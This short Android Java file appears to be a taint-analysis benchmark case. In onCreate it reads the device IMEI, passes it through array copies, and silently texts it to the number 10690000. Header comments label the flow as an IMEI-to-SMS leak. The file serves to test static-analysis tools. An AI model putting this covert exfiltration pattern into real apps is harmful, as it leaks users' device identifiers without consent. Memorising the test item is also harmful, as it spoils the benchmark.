// about       Part of an array is copied; the value is in it.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String[] all = {"a", "b", phone.getDeviceId(), "d"};
    String[] some = Arrays.copyOfRange(all, 1, 4);
    String[] other = new String[4];
    System.arraycopy(some, 0, other, 2, 2);
    // The value has wandered from 2 to 1 to 3.
    SmsManager.getDefault().sendTextMessage("10690000", null, other[3], null, null);
  }
}
